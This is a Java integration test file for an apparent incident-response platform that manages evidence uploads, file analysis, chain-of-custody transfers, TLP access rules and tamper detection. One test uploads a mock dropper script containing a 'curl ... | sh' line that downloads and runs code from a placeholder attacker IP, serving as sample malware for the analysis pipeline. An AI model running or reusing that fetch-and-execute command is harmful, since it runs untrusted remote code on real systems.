package org.yagura.artifacts;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.UUID;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.context.SecurityContextHolder;
import org.springframework.security.core.userdetails.UserDetails;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.yagura.identity.NewUser;
import org.yagura.identity.Role;
import org.yagura.identity.UserService;
import org.yagura.intake.Channel;
import org.yagura.intake.NewReport;
import org.yagura.intake.ReportService;
import org.yagura.shared.Tlp;
import org.yagura.shared.api.BadRequestException;
import org.yagura.shared.api.ConflictException;
import org.yagura.shared.api.YaguraException;

/** Upload, analysis job, custody and integrity through the front doors, as signed-in users. */
@SpringBootTest(properties = "yagura.files.max-size=64KB")
class EvidenceServiceIntegrationTests {

    @Autowired
    ArtifactService artifacts;
    @Autowired
    EvidenceService evidence;
    @Autowired
    CustodyService custody;
    @Autowired
    ReportService reports;
    @Autowired
    UserService users;
    @Autowired
    UserDetailsService details;
    @Autowired
    JdbcClient jdbc;
    @Value("${yagura.data-dir}")
    Path dataDir;

    String report;

    @BeforeEach
    void reportAsAdmin() {
        signIn("admin");
        report = reports.submit(new NewReport("cert@example.jp", "Compromised web server", null, null, null, null, null, null,
                Tlp.AMBER), Channel.API, null).report().key();
    }

    @AfterEach
    void signOut() {
        SecurityContextHolder.clearContext();
    }

    @Test
    void analysesAnUploadInABackgroundJob() {
        byte[] content = ("#!/bin/sh\ncurl http://203.0.113.7/x | sh\n" + UUID.randomUUID()).getBytes(StandardCharsets.UTF_8);
        ArtifactView stored = artifacts.upload("reports", report, List.of(upload("dropper.sh", content)), null).get(0);
        assertThat(stored.analysisStatus()).isEqualTo(AnalysisStatus.PENDING);
        ArtifactView done = awaitAnalysed(stored.key());
        assertThat(done.analysisStatus()).isEqualTo(AnalysisStatus.DONE);
        assertThat(done.analysis().sha256()).isEqualTo(stored.sha256());
        assertThat(done.analysis().size()).isEqualTo(content.length);
        assertThat(done.analysis().ssdeep()).isNotBlank();
        assertAudited(stored.key(), "artifact.uploaded", "artifact.analysed");
    }

    @Test
    void recordsPhysicalEvidenceWithoutAFileAndRefusesInconsistentItems() {
        EvidenceDetail paper = evidence.record(physical("Visitor log of the server room, 2026-11-20 to 2026-11-24"));
        assertThat(paper.item().key()).matches("EVD-\\d{4}-\\d{5}");
        assertThat(paper.item().type()).isEqualTo(EvidenceType.DOCUMENT);
        assertThat(paper.item().custodian()).isEqualTo("admin");
        assertThat(paper.item().legalHold()).isTrue();
        assertThat(paper.custody()).singleElement().satisfies(e -> assertThat(e.type()).isEqualTo(CustodyEntryType.ACQUIRED));
        assertThatThrownBy(() -> custody.verify(paper.item().key())).isInstanceOf(BadRequestException.class);
        assertThatThrownBy(() -> evidence.record(digital(null, null))).isInstanceOf(BadRequestException.class)
                .extracting(e -> ((YaguraException) e).messageKey()).isEqualTo("artifacts.evidence.artifact.required");
        ArtifactView file = artifacts.upload("reports", report, List.of(upload("disk.img", bytes("disk"))), null).get(0);
        assertThatThrownBy(() -> evidence.record(digital(file.key(), "00".repeat(32)))).isInstanceOf(BadRequestException.class)
                .extracting(e -> ((YaguraException) e).messageKey()).isEqualTo("artifacts.evidence.hash.mismatch");
    }

    @Test
    void onlyTheReceivingUserConfirmsATransfer() {
        String alice = user(Role.INCIDENT_HANDLER);
        String bob = user(Role.ANALYST);
        String key = evidence.record(physical("Laptop of the affected employee, serial 5CD1234XYZ")).item().key();

        assertThatThrownBy(() -> custody.requestTransfer(key, "nobody-" + UUID.randomUUID(), null))
                .isInstanceOf(BadRequestException.class);
        EvidenceDetail requested = custody.requestTransfer(key, alice, "Imaging in the forensics lab");
        assertThat(requested.pendingTransfer().toUser()).isEqualTo(alice);
        assertThat(requested.item().custodian()).isEqualTo("admin");
        assertThatThrownBy(() -> custody.requestTransfer(key, bob, null)).isInstanceOf(ConflictException.class);

        signIn(bob);
        assertThatThrownBy(() -> custody.confirmTransfer(key)).isInstanceOf(AccessDeniedException.class);
        signIn("admin");
        assertThatThrownBy(() -> custody.confirmTransfer(key)).isInstanceOf(AccessDeniedException.class);

        signIn(alice);
        EvidenceDetail confirmed = custody.confirmTransfer(key);
        assertThat(confirmed.item().custodian()).isEqualTo(alice);
        assertThat(confirmed.pendingTransfer()).isNull();
        assertThat(confirmed.custody()).extracting(CustodyEntry::type).containsExactly(CustodyEntryType.ACQUIRED,
                CustodyEntryType.TRANSFER_REQUESTED, CustodyEntryType.TRANSFER_CONFIRMED);
        assertThat(confirmed.custody().get(2).transferId()).isEqualTo(confirmed.custody().get(1).id());
        assertThat(confirmed.custody().get(2).fromUser()).isEqualTo("admin");
        assertThat(confirmed.custody()).extracting(CustodyEntry::seq).containsExactly(1, 2, 3);
        assertThatThrownBy(() -> custody.confirmTransfer(key)).isInstanceOf(ConflictException.class);

        signIn("admin");
        assertThatThrownBy(() -> custody.requestTransfer(key, bob, null)).isInstanceOf(ConflictException.class)
                .extracting(e -> ((YaguraException) e).messageKey()).isEqualTo("artifacts.evidence.transfer.not-custodian");
        assertAudited(key, "evidence.recorded", "evidence.transfer-requested", "evidence.transfer-confirmed");
    }

    @Test
    void aRedItemIsSeenOnlyByWhoRecordedItHoldsItOrIsAskedToTakeIt() {
        String alice = user(Role.INCIDENT_HANDLER);
        String bob = user(Role.INCIDENT_HANDLER);
        NewEvidence red = physical("Phone of the CEO");
        String key = evidence.record(new NewEvidence(red.recordKind(), red.recordKey(), red.description(), red.type(), null,
                null, null, null, null, "admin", red.acquiredAt(), null, null, null, null, null, "Safe 1", true, null, null,
                Tlp.RED)).item().key();
        signIn(alice);
        assertThatThrownBy(() -> evidence.get(key)).isInstanceOf(org.yagura.shared.api.NotFoundException.class);
        signIn("admin");
        custody.requestTransfer(key, alice, "Forensic imaging");
        signIn(alice);
        assertThat(custody.confirmTransfer(key).item().custodian()).isEqualTo(alice);
        assertThat(evidence.get(key).item().tlp()).isEqualTo(Tlp.RED);
        signIn(bob);
        assertThatThrownBy(() -> evidence.get(key)).isInstanceOf(org.yagura.shared.api.NotFoundException.class);
    }

    @Test
    void verificationDetectsATamperedOrMissingFile() throws Exception {
        byte[] content = bytes("memory image");
        ArtifactView file = artifacts.upload("reports", report, List.of(upload("mem.raw", content)), null).get(0);
        EvidenceDetail item = evidence.record(digital(file.key(), file.sha256().toUpperCase()));
        assertThat(item.item().sha256()).isEqualTo(file.sha256());
        String key = item.item().key();

        assertThat(custody.verify(key).custody().get(1).result()).isEqualTo(VerificationResult.MATCH);

        Path blob = dataDir.resolve("blobs").resolve(file.sha256().substring(0, 2)).resolve(file.sha256().substring(2, 4))
                .resolve(file.sha256());
        Files.write(blob, bytes("tampered"));
        CustodyEntry tampered = custody.verify(key).custody().get(2);
        assertThat(tampered.result()).isEqualTo(VerificationResult.MISMATCH);
        assertThat(tampered.verifiedSha256()).isNotEqualTo(file.sha256());
        assertThat(tampered.actor()).isEqualTo("admin");

        Files.delete(blob);
        assertThat(custody.verify(key).custody().get(3).result()).isEqualTo(VerificationResult.MISSING);
        Files.write(blob, content);
        EvidenceDetail restored = custody.verify(key);
        assertThat(restored.custody()).extracting(CustodyEntry::result).containsExactly(null, VerificationResult.MATCH,
                VerificationResult.MISMATCH, VerificationResult.MISSING, VerificationResult.MATCH);
    }

    private ArtifactView awaitAnalysed(String key) {
        ArtifactView[] last = new ArtifactView[1];
        // in the test's thread: the service reads the signed-in user from it
        Awaitility.await().pollInSameThread().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(200)).until(() -> {
            last[0] = artifacts.get(key);
            return !last[0].analysisStatus().inProgress();
        });
        return last[0];
    }

    /** Waits until the audit trail has an entry of each action for the subject (audit listeners run after the commit). */
    private void assertAudited(String subject, String... actions) {
        Awaitility.await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(jdbc.sql(
                "SELECT action FROM audit_entry WHERE subject_id = ?").param(subject).query(String.class).list()).contains(actions));
    }

    private NewEvidence physical(String description) {
        return new NewEvidence(null, report, description, EvidenceType.DOCUMENT, null, null, null, "Security desk", "Server room B2",
                "admin", Instant.parse("2026-11-24T09:30:00Z"), "Collected in person", null, null, null, null,
                "Safe 3, CSIRT office", true, java.time.LocalDate.parse("2031-12-31"), null, null);
    }

    private NewEvidence digital(String artifactKey, String sha256) {
        return new NewEvidence("report", report, "Disk image of web01", EvidenceType.DIGITAL, artifactKey, "web01", null, null,
                "DC1", "admin", Instant.parse("2026-11-24T10:00:00Z"), "dd over the network", "dc3dd 7.3", sha256, null, null,
                "Yagura blob store; original disk in safe 3", false, null, null, null);
    }

    private void signIn(String username) {
        UserDetails user = details.loadUserByUsername(username);
        SecurityContextHolder.getContext().setAuthentication(
                new UsernamePasswordAuthenticationToken(user, null, user.getAuthorities()));
    }

    private String user(Role role) {
        String name = role.name().toLowerCase().replace('_', '-') + "-" + UUID.randomUUID().toString().substring(0, 8);
        users.create(new NewUser(name, "Test " + name, null, role, "Quiet-Watchtower-Lantern-7", null));
        return name;
    }

    private static Upload upload(String name, byte[] content) {
        return new Upload(name, "application/octet-stream", () -> new ByteArrayInputStream(content));
    }

    private static byte[] bytes(String prefix) {
        return (prefix + " " + UUID.randomUUID()).getBytes(StandardCharsets.UTF_8);
    }
}
